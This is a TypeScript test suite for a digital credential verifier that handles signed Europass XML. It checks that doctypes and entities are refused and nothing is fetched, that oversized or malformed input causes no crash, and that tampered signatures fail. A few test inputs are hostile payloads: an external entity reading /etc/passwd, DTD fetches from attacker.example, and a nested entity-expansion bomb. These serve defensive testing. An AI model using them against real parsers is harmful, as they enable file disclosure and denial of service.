import { createVerifier } from '@credlens/core';
import { xadesSeal, xml, type Xml } from '@credlens/demo-pki';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { castOf } from './jades-world.js';
import { judgeBytes, NOW } from './pades-world.js';
import { checkOf } from './world.js';
import { judgeXades, signatureIn } from './xades-world.js';

const utf8 = (text: string) => new TextEncoder().encode(text);
/** Whatever it is asked for, it notes and refuses: a file or an address that a document names must not be. */
const watched = () => {
  const asked: string[] = [];
  const verifier = createVerifier({ resources: (url) => { asked.push(url); return { bytes: new Uint8Array(), contentType: 'text/plain', status: 404 }; } });
  return { asked, verify: (input: string | Uint8Array) => verifier.verify(input, { at: NOW }) };
};
const ROOT = '<europassCredential xmlns="http://data.europa.eu/snb"';

describe('document types and entities', () => {
  it.each<[string, string]>([
    ['a document type alone', `<!DOCTYPE europassCredential>${ROOT}/>`],
    ['an entity', `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e "x">]>${ROOT}>&e;</europassCredential>`],
    ['a file', `<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>${ROOT}>&e;</europassCredential>`],
    ['an address', `<!DOCTYPE r SYSTEM "https://attacker.example/r.dtd" [<!ENTITY % e SYSTEM "https://attacker.example/e.dtd"> %e;]>${ROOT}/>`],
    ['entities of entities', `<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, index) => `<!ENTITY ${'bcdefghij'[index]} "${`&${'abcdefghi'[index]};`.repeat(10)}">`).join('')}]>${ROOT}>&j;</europassCredential>`],
    ['after a comment', `<!-- x --><!DOCTYPE r [<!ENTITY e "x">]>${ROOT}>&e;</europassCredential>`],
  ])('%s: not read, nothing fetched', async (_name, text) => {
    const { asked, verify } = watched();
    const report = await verify(text);
    expect(checkOf(report, 'intake.readable')).toMatchObject({ code: 'xml.doctype', outcome: 'indeterminate' });
    expect({ asked, verdict: report.verdict === 'verified' }).toEqual({ asked: [], verdict: false });
  });
  it('in any other XML it is said as well, and that it holds no credential', async () => {
    const { asked, verify } = watched();
    const report = await verify('<!--?xml version="1.0" ?-->\n<!DOCTYPE r [<!ENTITY e SYSTEM "https://attacker.example/">]>\n<r>&e;</r>');
    expect(checkOf(report, 'intake.credential').code).toBe('xml.doctype');
    expect(asked).toEqual([]);
  });
  it('in a sealed document', async () => {
    const report = await judgeXades({ change: (text) => text.replace('<europassCredential', '<!DOCTYPE europassCredential [<!ENTITY e "x">]><europassCredential') });
    expect(checkOf(report, 'intake.readable').code).toBe('xml.doctype');
  });
  it('an entity that nobody declares is damage', async () => expect(checkOf(await judgeXades({ change: (text) => text.replace('Robin Sample', '&robin;') }), 'intake.readable')).toMatchObject({ code: 'xades.malformed', params: { reason: 'not-well-formed' } }));
});

describe('what is no credential of this kind', () => {
  it.each<[string, string, string, string]>([
    ['other XML', '<?xml version="1.0"?><invoice/>', 'intake.credential', 'input.unsupported'], ['the name in another namespace', '<europassCredential xmlns="urn:x"/>', 'intake.credential', 'input.unsupported'],
    ['the namespace alone', '<x xmlns="http://data.europa.eu/snb"/>', 'intake.credential', 'input.unsupported'], ['a credential inside something else', `<x>${ROOT}/></x>`, 'intake.credential', 'input.unsupported'],
    ['damaged', `${ROOT}><a></b>`, 'intake.readable', 'xades.malformed'], ['XML 1.1', `<?xml version="1.1"?>${ROOT}/>`, 'intake.readable', 'xades.malformed'], ['another encoding', `<?xml version="1.0" encoding="ISO-8859-1"?>${ROOT}/>`, 'intake.readable', 'xades.malformed'],
    ['an empty one', `${ROOT}/>`, 'intake.credential', 'input.unsigned'],
  ])('%s', async (_name, text, check, code) => expect(checkOf(await createVerifier({ offline: true }).verify(text, { at: NOW }), check as 'intake.readable').code).toBe(code));
  it('the name of a file says nothing', async () => {
    const cast = await castOf();
    const { bytes } = await xadesSeal({ pki: cast });
    expect((await createVerifier({ offline: true }).verify(bytes, { at: NOW, filename: 'diploma.txt' })).signatures).toHaveLength(1);
  });
});

describe('input that nobody honest writes', () => {
  it.each<[string, () => string]>([
    ['elements inside elements', () => `${ROOT}>${'<a>'.repeat(100_000)}`],
    ['a hundred thousand of one element', () => `${ROOT}><title>${'<text lang="en">x</text>'.repeat(90_000)}</title></europassCredential>`],
    ['a hundred thousand achievements', () => `${ROOT}><credentialSubject><achievements>${'<learningAchievement/>'.repeat(90_000)}</achievements></credentialSubject></europassCredential>`],
    ['a hundred thousand references', () => `${ROOT}><agentReferences>${'<organization id="a"><unitOf idref="a"/></organization>'.repeat(40_000)}</agentReferences></europassCredential>`],
    ['achievements that are parts of themselves', () => `${ROOT}><credentialSubject><achievements><learningAchievement id="a"><hasPart idref="a"/><hasPart idref="a"/></learningAchievement></achievements></credentialSubject></europassCredential>`],
    ['signatures by the ten thousand', () => `${ROOT}><proof>${'<s:Signature xmlns:s="http://www.w3.org/2000/09/xmldsig#"/>'.repeat(30_000)}</proof></europassCredential>`],
    ['signatures elsewhere by the ten thousand', () => `${ROOT}><x>${'<s:Signature xmlns:s="http://www.w3.org/2000/09/xmldsig#"/>'.repeat(30_000)}</x></europassCredential>`],
    ['comments before it', () => `${'<!-- x -->'.repeat(200_000)}${ROOT}/>`],
    ['nine megabytes of text', () => `${ROOT}>${'x'.repeat(9_000_000)}</europassCredential>`],
    ['a presentation of thousands', () => `<vp:verifiablePresentation xmlns:vp="http://data.europa.eu/snb/vp">${`${ROOT}/>`.repeat(20_000)}</vp:verifiablePresentation>`],
  ])('%s', { timeout: 60_000 }, async (_name, make) => {
    const report = await createVerifier({ offline: true }).verify(utf8(make()), { at: NOW });
    expect(report.verdict).not.toBe('verified');
    expect(report.checks.some(({ code }) => code === 'check.crashed')).toBe(false);
  });
  it('names that objects have of themselves', async () => {
    for (const name of ['__proto__', 'constructor', 'toString', 'valueOf', 'hasOwnProperty']) {
      const report = await judgeXades({ change: (text) => text.replace('<title>', `<title><text lang="${name}">x</text></title><${name}><${name}/></${name}><title>`) });
      expect(report.verdict).toBe('invalid');
      expect(report.checks.some(({ code }) => code === 'check.crashed')).toBe(false);
    }
  });
});

describe('whatever is changed', () => {
  it('octets anywhere: it verifies only where it means the same, and never throws', { timeout: 120_000 }, async () => {
    const cast = await castOf();
    const { bytes, text } = await xadesSeal({ pki: cast, level: 'T' });
    const good = await judgeBytes(bytes, cast);
    expect(good.verdict).toBe('verified');
    const [head, keyInfo, properties, unsigned] = ['<europassCredential', '<ds:KeyInfo', '<ds:Object', '<xades:UnsignedProperties'].map((part) => text.indexOf(part)) as [number, number, number, number];
    const isCovered = (at: number) => (at >= head && at < keyInfo) || (at >= properties && at < unsigned);
    /** Which character an octet belongs to. */
    const before = (at: number) => new TextDecoder().decode(bytes.subarray(0, at)).length;
    await fc.assert(fc.asyncProperty(fc.integer({ min: 0, max: bytes.length - 1 }), fc.integer({ min: 1, max: 255 }), async (at, flip) => {
      const edited = new Uint8Array(bytes);
      edited[at] = edited[at]! ^ flip;
      const report = await judgeBytes(edited, cast);
      expect(report.checks.some(({ code }) => code === 'check.crashed')).toBe(false);
      if (report.verdict === 'verified') expect({ credential: report.credential, signer: report.signatures?.[0]?.signer, claimed: report.signatures?.[0]?.time.claimed }).toEqual({ credential: good.credential, signer: good.signatures?.[0]?.signer, claimed: good.signatures?.[0]?.time.claimed });
      // White space in tags, and the kind of quotes, are free. Words are not.
      if (isCovered(before(at)) && /\w/.test(text[before(at)] ?? '')) expect(report.verdict).not.toBe('verified');
    }), { numRuns: 250 });
  });
  it('parts left out, doubled or swapped', { timeout: 120_000 }, async () => {
    const cast = await castOf();
    const { text } = await xadesSeal({ pki: cast, level: 'T' });
    const good = await judgeBytes(utf8(text), cast);
    const tags = [...text.matchAll(/<[^>]*>/g)].map(({ index, 0: tag }) => ({ index, end: index + tag.length }));
    await fc.assert(fc.asyncProperty(fc.integer({ min: 0, max: tags.length - 1 }), fc.integer({ min: 0, max: tags.length - 1 }), fc.boolean(), async (one, other, double) => {
      const [from, to] = [tags[Math.min(one, other)]!, tags[Math.max(one, other)]!];
      const edited = double ? text.slice(0, to.end) + text.slice(from.index) : text.slice(0, from.index) + text.slice(to.end);
      const report = await judgeBytes(utf8(edited), cast);
      expect(report.checks.some(({ code }) => code === 'check.crashed')).toBe(false);
      if (report.verdict === 'verified') expect(report.credential).toEqual(good.credential);
    }), { numRuns: 250 });
  });
  it('whatever stands among the unsigned properties, nothing crashes and nothing is gained', { timeout: 60_000 }, async () => {
    const cast = await castOf();
    const names = ['SignatureTimeStamp', 'ArchiveTimeStamp', 'CertificateValues', 'RevocationValues', 'CRLValues', 'EncapsulatedTimeStamp', 'EncapsulatedX509Certificate', 'EncapsulatedOCSPValue', 'CounterSignature', 'Include'];
    const node: fc.Arbitrary<Xml> = fc.letrec<{ node: Xml }>((tie) => ({
      node: fc.tuple(fc.constantFrom('xades:', 'xades141:', 'ds:'), fc.constantFrom(...names), fc.oneof(fc.constantFrom('', 'AAAA', 'MAA=', '!'), fc.array(tie('node'), { maxLength: 3 }))).map(([prefix, name, inside]) => xml(prefix + name, ...(typeof inside === 'string' ? [inside] : inside))),
    })).node;
    await fc.assert(fc.asyncProperty(fc.array(node, { maxLength: 4 }), async (unsigned) => {
      const { bytes } = await xadesSeal({ pki: cast, unsigned });
      const report = await judgeBytes(bytes, cast);
      expect(report.checks.some(({ code }) => code === 'check.crashed')).toBe(false);
      expect(report.signatures?.[0]?.time.proved).toBeUndefined();
    }), { numRuns: 100 });
  });
  it('the signature of another document', async () => {
    const cast = await castOf();
    const other = signatureIn((await xadesSeal({ pki: cast, root: xml('europassCredential', xml('proof')) })).text);
    expect((await judgeXades({ change: (text) => text.replace(signatureIn(text), other) })).verdict).toBe('invalid');
  });
});
